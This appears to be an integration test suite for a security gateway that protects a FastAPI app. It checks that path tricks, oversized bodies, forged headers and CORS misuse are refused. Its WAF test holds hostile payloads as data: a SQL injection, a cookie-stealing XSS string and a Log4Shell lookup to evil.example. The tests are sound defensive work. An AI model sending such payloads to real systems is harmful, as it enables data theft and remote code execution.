/**
 * The protections in front of a real FastAPI app (test/fixtures/fastapi_app.py under uvicorn):
 * each attack blocked and each legitimate request passing, through the real gateway.
 * A refused request must never reach the app: the fixture's GET /__count, read directly from
 * uvicorn before and after, proves it.
 */
import { after, before, test } from 'node:test'
import assert from 'node:assert/strict'
import { fastApiSkipReason, startFastApi, type FastApiHandle } from '../helpers/fastapi.js'
import { startGateway, type TestGateway } from '../helpers/gateway.js'
import { closeAgent, request, type TestResponse } from '../helpers/http.js'
import { exchange } from '../fuzz/support.js'

let app: FastApiHandle | null = null
let prod: TestGateway
let dev: TestGateway

const MAX_BODY = 1024
const MAX_LOGGED = 64
const ORIGIN = 'https://app.example.com'
const docsPaths = ['/docs', '/redoc', '/openapi.json', '/docs/oauth2-redirect']

before(async () => {
  app = await startFastApi()
  if (app === null) return
  prod = await startGateway({
    upstream: { url: app.url, response_timeout: '1s' },
    mode: 'production',
    limits: { max_body_bytes: MAX_BODY },
    cors: { allow_origins: [ORIGIN] },
    error_masking: { max_logged_bytes: MAX_LOGGED },
  })
  dev = await startGateway({ upstream: app.url, mode: 'development' })
})

after(async () => {
  await dev?.close()
  await prod?.close()
  await app?.close()
  await closeAgent()
})

async function appCount(): Promise<number> {
  const res = await fetch(`${app!.url}/__count`)
  return ((await res.json()) as { count: number }).count
}

/** Runs `fn` and checks that no request reached the app meanwhile. */
async function neverReachesApp(fn: () => Promise<void>): Promise<void> {
  const start = await appCount()
  await fn()
  assert.equal(await appCount(), start, 'a refused request reached the app')
}

function header(res: TestResponse, name: string): string | undefined {
  const v = res.headers[name]
  return Array.isArray(v) ? v.join(', ') : v
}

function assertError(res: TestResponse, status: number, code: string): void {
  assert.equal(res.status, status)
  const body = res.json() as Record<string, unknown>
  assert.deepEqual(Object.keys(body).sort(), ['code', 'error', 'request_id'])
  assert.equal(body.code, code)
  assert.equal(body.request_id, header(res, 'x-request-id'))
}

const uuid = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/

test('a normal request passes with the same JSON as direct, hardened and with a request id', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const direct = await fetch(`${app.url}/items/3?q=x`)
  assert.equal(direct.headers.get('server'), 'uvicorn', 'the fixture itself announces uvicorn')
  const expected: unknown = await direct.json()

  const res = await request(prod.url + '/items/3?q=x')
  assert.equal(res.status, 200)
  assert.deepEqual(res.json(), expected)
  assert.match(header(res, 'content-security-policy') ?? '', /^default-src 'none'/)
  assert.equal(header(res, 'x-content-type-options'), 'nosniff')
  assert.equal(header(res, 'x-frame-options'), 'DENY')
  assert.equal(header(res, 'server'), undefined)
  assert.match(header(res, 'x-request-id') ?? '', uuid)
})

test('production: /docs, /redoc, /openapi.json and /docs/oauth2-redirect are 404 at the edge, in any spelling', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  await neverReachesApp(async () => {
    for (const path of docsPaths) assertError(await request(prod.url + path), 404, 'DRAWBRIDGE_ERR_NOT_FOUND')
    // spellings an upstream router would still route to the docs; sent raw, as undici might tidy them
    for (const path of ['/DOCS', '/%64ocs', '/docs/', '/redoc?x=1']) {
      const res = await exchange(prod.url, `GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`)
      assert.equal(res.status, 404, path)
      assert.equal((JSON.parse(res.body) as { code: string }).code, 'DRAWBRIDGE_ERR_NOT_FOUND', path)
    }
    // spellings that routers read differently (dot segments, //, ;, encoded /) are refused outright
    for (const path of ['/x/../docs', '//openapi.json', '/openapi.json;x', '/docs/%2e', '/docs%2foauth2-redirect']) {
      const res = await exchange(prod.url, `GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`)
      assert.equal(res.status, 400, path)
      assert.equal((JSON.parse(res.body) as { code: string }).code, 'DRAWBRIDGE_ERR_BAD_REQUEST', path)
    }
  })
})

test('development: the docs are served by the app with the docs header profile', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  for (const path of docsPaths) {
    const res = await request(dev.url + path)
    assert.equal(res.status, 200, path)
    assert.match(header(res, 'content-security-policy') ?? '', /script-src [^;]*https:\/\/cdn\.jsdelivr\.net/, path)
    assert.equal(header(res, 'x-content-type-options'), 'nosniff')
  }
  const spec = await request(dev.url + '/openapi.json')
  assert.equal(typeof (spec.json() as { openapi?: unknown }).openapi, 'string')
})

test('a Host outside trusted_hosts is refused with 400 and never reaches the app', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  await neverReachesApp(async () => {
    const res = await request(prod.url + '/items/1', { headers: { host: 'evil.example' } })
    assertError(res, 400, 'DRAWBRIDGE_ERR_HOST_NOT_ALLOWED')
  })
})

function chunked(parts: readonly string[]): string {
  return parts.map((p) => `${p.length.toString(16)}\r\n${p}\r\n`).join('') + '0\r\n\r\n'
}

test('bodies over limits.max_body_bytes get 413, announced or chunked, and never reach the app', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const big = 'a'.repeat(MAX_BODY + 1)
  await neverReachesApp(async () => {
    const announced = await exchange(
      prod.url,
      `POST /upload-size HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\nContent-Length: ${big.length}\r\n\r\n${big}`,
    )
    assert.equal(announced.status, 413)
    assert.equal((JSON.parse(announced.body) as { code: string }).code, 'DRAWBRIDGE_ERR_BODY_TOO_LARGE')

    const streamed = await exchange(
      prod.url,
      'POST /upload-size HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n' +
        chunked([big.slice(0, 500), big.slice(500, 1000), big.slice(1000)]),
    )
    assert.equal(streamed.status, 413)
    assert.equal((JSON.parse(streamed.body) as { code: string }).code, 'DRAWBRIDGE_ERR_BODY_TOO_LARGE')
  })
})

test('bodies within the limit reach the app whole, chunked ones with the right byte count', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const exact = await request(prod.url + '/upload-size', {
    method: 'POST',
    headers: { 'content-type': 'application/octet-stream' },
    body: 'b'.repeat(MAX_BODY),
  })
  assert.equal(exact.status, 200)
  assert.deepEqual(exact.json(), { bytes: MAX_BODY })

  const parts = ['x'.repeat(300), 'y'.repeat(300), 'z'.repeat(124)]
  const res = await exchange(
    prod.url,
    'POST /upload-size HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n' +
      chunked(parts),
  )
  assert.equal(res.status, 200)
  assert.deepEqual(JSON.parse(res.body), { bytes: 724 })
})

test('TRACE is refused with 405 and an Allow header, and never reaches the app', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  await neverReachesApp(async () => {
    const res = await request(prod.url + '/items/1', { method: 'TRACE' })
    assertError(res, 405, 'DRAWBRIDGE_ERR_METHOD_NOT_ALLOWED')
    const allow = (header(res, 'allow') ?? '').split(',').map((m) => m.trim())
    assert.ok(allow.includes('GET') && !allow.includes('TRACE'), `allow: ${allow}`)
  })
})

test('production: a Python traceback is masked for the client and logged truncated', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const direct = await (await fetch(`${app.url}/traceback`)).text()
  assert.match(direct, /Traceback \(most recent call last\)/)
  assert.ok(direct.length > MAX_LOGGED, 'the fixture traceback is longer than the log limit')

  const res = await request(prod.url + '/traceback')
  assertError(res, 500, 'DRAWBRIDGE_ERR_UPSTREAM_ERROR')
  assert.doesNotMatch(res.text, /Traceback|KeyError|\.py/)
  assert.match(header(res, 'content-type') ?? '', /^application\/json/)

  const id = header(res, 'x-request-id')
  const line = prod.logs().find((l) => l.request_id === id && l.level === 'error')
  assert.ok(line !== undefined, 'an error log line for the masked response')
  assert.equal(typeof line.body, 'string')
  const logged = line.body as string
  assert.match(logged, /^Traceback \(most recent call last\)/)
  assert.ok(logged.length <= MAX_LOGGED, `logged ${logged.length} characters`)
})

test('development: the traceback passes through unmasked', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const res = await request(dev.url + '/traceback')
  assert.equal(res.status, 500)
  assert.match(res.text, /Traceback \(most recent call last\)/)
})

const upgrade = (path: string): string =>
  `GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n'

test('an upgrade request to a plain route does not get around error masking or cookie hardening', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  for (const path of ['/traceback', '/cookies']) {
    const res = await exchange(prod.url, upgrade(path), { timeoutMs: 3000 })
    assert.ok(res.status >= 400, `${path}: ${res.status}`)
    assert.doesNotMatch(res.body, /Traceback/)
    for (const c of res.raw.match(/^set-cookie: .*$/gim) ?? []) assert.match(c, /HttpOnly/i)
  }
})

// Regression (found here): the WebSocket terminal opened the upstream connection with http.request and the
// default global agent, which keeps sockets alive (Node >= 19). uvicorn refuses an upgrade to a
// plain route with 403 and closes the connection; the agent had already pooled that socket and
// handed it to the next upgrade, which failed with ECONNRESET: a 502 for one attempt in a few.
test('upgrades the app refuses one after another get its 4xx, never a 502', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const statuses: number[] = []
  for (let i = 0; i < 30; i++) statuses.push((await exchange(prod.url, upgrade('/items/1'), { timeoutMs: 3000 })).status)
  assert.deepEqual(
    statuses.filter((s) => s >= 500),
    [],
    `statuses: ${statuses.join(', ')}`,
  )
})

test('Set-Cookie from the app gets HttpOnly and SameSite (Strict kept)', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const direct = await fetch(`${app.url}/cookies`)
  await direct.arrayBuffer()
  assert.ok(
    direct.headers.getSetCookie().every((c) => !/httponly/i.test(c)),
    'the app itself sets no HttpOnly',
  )

  const res = await request(prod.url + '/cookies')
  assert.equal(res.status, 200)
  const raw = res.headers['set-cookie']
  const cookies = Array.isArray(raw) ? raw : raw === undefined ? [] : [raw]
  assert.equal(cookies.length, 2)
  for (const c of cookies) assert.match(c, /;\s*HttpOnly(;|$)/i)
  const session = cookies.find((c) => c.startsWith('session=abc'))
  const prefs = cookies.find((c) => c.startsWith('prefs=dark'))
  assert.ok(session !== undefined && prefs !== undefined)
  assert.match(session, /;\s*SameSite=Lax(;|$)/)
  assert.match(prefs, /;\s*SameSite=Strict(;|$)/)
})

test('an app slower than upstream.response_timeout gets 504', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const started = Date.now()
  const res = await request(prod.url + '/slow?seconds=3')
  assertError(res, 504, 'DRAWBRIDGE_ERR_UPSTREAM_TIMEOUT')
  assert.ok(Date.now() - started < 2900, `answered after ${Date.now() - started} ms`)
})

test('CORS: an allowed preflight is answered at the edge (204), another origin gets 403; neither reaches the app', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  await neverReachesApp(async () => {
    const ok = await request(prod.url + '/items/1', {
      method: 'OPTIONS',
      headers: { origin: ORIGIN, 'access-control-request-method': 'PUT', 'access-control-request-headers': 'Content-Type' },
    })
    assert.equal(ok.status, 204)
    assert.equal(header(ok, 'access-control-allow-origin'), ORIGIN)
    assert.ok(
      (header(ok, 'access-control-allow-methods') ?? '')
        .split(',')
        .map((m) => m.trim())
        .includes('PUT'),
    )
    assert.equal(header(ok, 'access-control-allow-headers'), 'Content-Type')
    assert.equal(header(ok, 'access-control-max-age'), '600')
    assert.match(header(ok, 'vary') ?? '', /Origin/)

    const refused = await request(prod.url + '/items/1', {
      method: 'OPTIONS',
      headers: { origin: 'https://evil.example', 'access-control-request-method': 'GET' },
    })
    assertError(refused, 403, 'DRAWBRIDGE_ERR_CORS_REJECTED')
    assert.equal(header(refused, 'access-control-allow-origin'), undefined)
  })
  // actual requests pass; only the allowed origin may read the answer
  const allowed = await request(prod.url + '/items/1', { headers: { origin: ORIGIN } })
  assert.equal(allowed.status, 200)
  assert.equal(header(allowed, 'access-control-allow-origin'), ORIGIN)
  const other = await request(prod.url + '/items/1', { headers: { origin: 'https://evil.example' } })
  assert.equal(other.status, 200)
  assert.equal(header(other, 'access-control-allow-origin'), undefined)
})

test('X-Forwarded-* and X-Request-ID from an untrusted client are replaced before the app sees them', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  // uvicorn trusts proxy headers from 127.0.0.1, so read the raw header echo, not request.client
  const res = await request(prod.url + '/echo/headers', {
    headers: {
      'x-forwarded-for': '6.6.6.6, 10.0.0.1',
      'x-real-ip': '6.6.6.6',
      'x-forwarded-host': 'evil.example',
      'x-forwarded-proto': 'https',
      forwarded: 'for=6.6.6.6;proto=https',
      'x-request-id': 'spoofed-id',
    },
  })
  assert.equal(res.status, 200)
  const seen = res.json() as Record<string, string | undefined>
  assert.equal(seen['x-forwarded-for'], '127.0.0.1')
  assert.equal(seen['x-real-ip'], '127.0.0.1')
  assert.equal(seen['x-forwarded-host'], 'localhost')
  assert.equal(seen['x-forwarded-proto'], 'http')
  assert.equal(seen['forwarded'], undefined)
  assert.equal(seen['x-request-id'], header(res, 'x-request-id'))
  assert.notEqual(seen['x-request-id'], 'spoofed-id')
})

test('WAF: SQL injection in the query, XSS in a JSON body and Log4Shell in a header are refused (403) and never reach the app', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  await neverReachesApp(async () => {
    assertError(await request(prod.url + "/items/3?q=1'%20UNION%20SELECT%20password%20FROM%20users--"), 403, 'DRAWBRIDGE_ERR_BLOCKED')
    const xss = await request(prod.url + '/items', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: '<img src=x onerror=alert(document.cookie)>', price: 1 }),
    })
    assertError(xss, 403, 'DRAWBRIDGE_ERR_BLOCKED')
    assertError(await request(prod.url + '/items/3', { headers: { 'x-api-version': '${jndi:ldap://evil.example/x}' } }), 403, 'DRAWBRIDGE_ERR_BLOCKED')
  })
})

test('WAF: the legitimate twins pass and the app answers as it would directly', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const q = await request(prod.url + '/items/3?q=' + encodeURIComponent("O'Brien's select a plan"))
  assert.equal(q.status, 200)
  assert.deepEqual(q.json(), { item_id: 3, q: "O'Brien's select a plan" })
  const body = { name: 'Fish & chips <b>large</b>', price: 9.5 }
  const post = await request(prod.url + '/items', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
  assert.equal(post.status, 200)
  assert.deepEqual(post.json(), body)
})

test("WAF: a malformed JSON body gets 400 at the edge instead of the app's 422", async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const direct = await fetch(`${app.url}/items`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name": "x",' })
  assert.equal(direct.status, 422, 'FastAPI itself answers 422')
  await neverReachesApp(async () => {
    const res = await request(prod.url + '/items', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name": "x",' })
    assertError(res, 400, 'DRAWBRIDGE_ERR_MALFORMED_BODY')
  })
})

test('identity at the edge: the OAuth2 password form logs in; the app reads the caller from X-Drawbridge-User and never sees anonymous or forged callers', async (t) => {
  if (app === null) return t.skip(fastApiSkipReason)
  const { startAuthGateway } = await import('../helpers/auth.js')
  const gw = await startAuthGateway({ upstream: app.url }, { policies: [{ match: { path: '/items' }, access: 'public' }] })
  try {
    await gw.identity.register('alice', null, 'correct horse battery staple', ['user'])
    const login = await request(`${gw.url}/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'grant_type=password&username=alice&password=correct+horse+battery+staple',
    })
    assert.equal(login.status, 200, login.text)
    const token = login.json().access_token
    const me = await request(`${gw.url}/account`, { headers: { authorization: `Bearer ${token}` } })
    assert.equal(me.status, 200, me.text)
    assert.deepEqual(me.json(), { user: 'alice', roles: ['user'] })
    await neverReachesApp(async () => {
      assertError(await request(`${gw.url}/account`), 401, 'DRAWBRIDGE_ERR_UNAUTHORIZED')
      assertError(await request(`${gw.url}/account`, { headers: { 'x-drawbridge-user': 'root' } }), 401, 'DRAWBRIDGE_ERR_UNAUTHORIZED')
    })
    const pub = await request(`${gw.url}/items/1`, { headers: { 'x-drawbridge-user': 'root' } })
    assert.equal(pub.status, 200, pub.text)
    const seen = await request(`${gw.url}/echo/headers`, { headers: { authorization: `Bearer ${token}`, 'x-drawbridge-user': 'root' } })
    assert.equal(seen.json()['x-drawbridge-user'], 'alice')
    assert.equal(seen.json().authorization, undefined)
  } finally {
    await gw.close()
  }
})
